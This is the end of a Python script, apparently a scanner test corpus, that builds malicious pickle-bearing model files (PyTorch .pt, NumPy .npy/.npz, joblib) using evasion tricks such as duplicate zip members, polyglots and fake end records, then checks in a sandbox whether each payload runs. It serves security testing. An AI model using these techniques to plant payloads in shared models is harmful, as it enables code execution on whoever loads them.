    ("zip_dup_data_pkl_evil_last.pt", zip_dup_data_pkl_evil_last, "zip-duplicate-member", "torch.load", "check"),
    ("zip_dup_data_pkl_evil_first.pt", zip_dup_data_pkl_evil_first, "zip-duplicate-member", "torch.load", "check"),
    ("zip_prepended_pickle.pt", zip_prepended_pickle, "zip-pickle-polyglot", "torch.load", "runs"),
    ("zip_second_prefix.pt", zip_second_prefix, "zip-two-record-folders", "torch.load", "runs"),
    ("zip_local_name_differs.pt", zip_local_name_differs, "zip-local-central-mismatch", "torch.load", "runs"),
    ("zip_comment_pickle.pt", zip_comment_pickle, "zip-comment-pickle", "torch.load", "parsed-only"),
    ("zip_deflated.pt", zip_deflated_data_pkl, "zip-deflated-data-pkl", "torch.load", "runs"),
    ("zip_zip64.pt", zip_zip64, "zip64", "torch.load", "runs"),
    ("zip_bad_crc.pt", zip_bad_crc, "zip-crc-mismatch", "torch.load", "runs"),
    ("zip_fake_end_record.pt", zip_fake_end_record, "zip-two-end-records", "torch.load", "runs"),
    ("zip_numpy_object_array.pt", zip_numpy_object_array, "numpy-object-in-torch", "torch.load", "runs"),
    ("legacy_evil_magic.pt", legacy_evil_magic, "legacy-magic-pickle", "torch.load", "runs"),
    ("legacy_evil_sysinfo.pt", legacy_evil_sysinfo, "legacy-sysinfo-pickle", "torch.load", "runs"),
    ("legacy_evil_keys.pt", legacy_evil_keys, "legacy-storage-keys-pickle", "torch.load", "runs"),
    ("legacy_tar_sys_info.pt", lambda: legacy_tar("sys_info"), "legacy-tar-member", "torch.load", "runs"),
    ("legacy_tar_storages.pt", lambda: legacy_tar("storages"), "legacy-tar-member", "torch.load", "runs"),
    ("legacy_tar_tensors.pt", lambda: legacy_tar("tensors"), "legacy-tar-member", "torch.load", "runs"),
    ("npy_dup_descr.npy", npy_dup_descr, "npy-header-duplicate-key", "numpy.load", "runs"),
    ("npy_concat_descr.npy", npy_concat_descr, "npy-header-string-concat", "numpy.load", "runs"),
    ("npy_comment_header.npy", npy_comment_header, "npy-header-comment", "numpy.load", "runs"),
    ("npy_structured_object.npy", npy_structured_object, "npy-structured-object-field", "numpy.load", "runs"),
    ("npy_subarray_object.npy", npy_subarray_object, "npy-subarray-object", "numpy.load", "runs"),
    ("npy_fortran_object.npy", npy_fortran_object, "npy-fortran-object", "numpy.load", "runs"),
    ("npy_v3_object.npy", npy_v3_object, "npy-version3", "numpy.load", "runs"),
    ("npy_escape_descr.npy", npy_unicode_escape_descr, "npy-header-escape", "numpy.load", "runs"),
    ("npy_zero_shape_object.npy", npy_zero_shape_object, "npy-empty-object", "numpy.load", "check"),
    ("npy_raw_pickle.npy", npy_raw_pickle, "npy-name-raw-pickle", "numpy.load", "runs"),
    ("npz_member_without_suffix.npz", npz_member_without_suffix, "npz-member-name", "numpy.load[x]", "runs"),
    ("npz_dup_member.npz", npz_dup_member, "npz-duplicate-member", "numpy.load[x]", "check"),
    ("npz_raw_pickle_member.npz", npz_raw_pickle_member, "npz-raw-pickle-member", "numpy.load[y.pkl]", "parsed-only"),
    ("joblib_object_wrapper.joblib", joblib_obj_wrapper, "joblib-object-wrapper", "joblib.load", "runs"),
    ("joblib_lzma.joblib", joblib_lzma, "joblib-lzma", "joblib.load", "runs"),
    ("joblib_bz2.joblib", joblib_bz2, "joblib-bz2", "joblib.load", "runs"),
    ("joblib_zfile_compat.pkl", joblib_zfile_compat, "joblib-zfile-compat", "joblib.load", "runs"),
    ("joblib_xz_object_wrapper.joblib", joblib_xz_obj_wrapper, "joblib-xz-object-wrapper", "joblib.load", "runs"),
]

LOADER = r"""
import sys, os, warnings
warnings.simplefilter("ignore")
path, loader = sys.argv[1], sys.argv[2]
try:
    if loader == "pickle.load":
        import pickle
        pickle.load(open(path, "rb"))
    elif loader == "pickle.load+draw":
        import pickle
        g = pickle.load(open(path, "rb"))
        for _ in range(4):
            (g.integers if hasattr(g, "integers") else g.randint)(0, 10, 100000)
    elif loader == "pickle.load x2":
        import pickle
        f = open(path, "rb")
        pickle.load(f)
        pickle.load(f)
    elif loader == "torch.load":
        import torch
        torch.load(path)
    elif loader == "numpy.load":
        import numpy
        numpy.load(path, allow_pickle=True)
    elif loader.startswith("numpy.load["):
        import numpy
        z = numpy.load(path, allow_pickle=True)
        z[loader[len("numpy.load["):-1]]
    elif loader == "joblib.load":
        import joblib
        joblib.load(path)
except BaseException as e:
    print("load raised", type(e).__name__, str(e)[:200], file=sys.stderr)
"""


def prove(path, loader):
    with tempfile.TemporaryDirectory() as d:
        try:
            r = subprocess.run([sys.executable, "-c", LOADER, path, loader], cwd=d, capture_output=True, text=True, timeout=60)
        except subprocess.TimeoutExpired:
            return os.path.exists(os.path.join(d, MARK)), ["timed out"], 0
        return os.path.exists(os.path.join(d, MARK)), r.stderr.strip().splitlines()[-1:] if r.stderr.strip() else [], r.returncode


def main():
    os.makedirs(OUT, exist_ok=True)
    # With file names as arguments, only those are proven again; the other
    # rows are kept from the existing labels.tsv.
    only = set(sys.argv[1:])
    old = {}
    lp = os.path.join(OUT, "labels.tsv")
    if only and os.path.exists(lp):
        for line in open(lp):
            if not line.startswith("#"):
                r = line.rstrip("\n").split("\t")
                old[r[0]] = tuple(r)
    rows = []
    for name, make, cls, loader, expect in FIXTURES:
        path = os.path.join(OUT, name)
        with open(path, "wb") as f:
            f.write(make())
        if only and name not in only:
            if name in old:
                rows.append(old[name])
            continue
        ran, err, rc = prove(path, loader)
        # crash: the loader died on a signal (memory corruption), no marker
        live = "runs" if ran else "crash" if rc < 0 else ("parsed-only" if expect == "parsed-only" else "refused")
        print("%-36s %-18s %-8s %s" % (name, loader, live, "" if ran else err))
        rows.append((name, cls, loader, live))
    with open(lp, "w") as f:
        f.write("# file\tclass\tloader\tlive (runs: payload ran here; refused: the loader raises first; parsed-only: no stock loader reads it)\n")
        for r in rows:
            f.write("\t".join(r) + "\n")


if __name__ == "__main__":
    main()
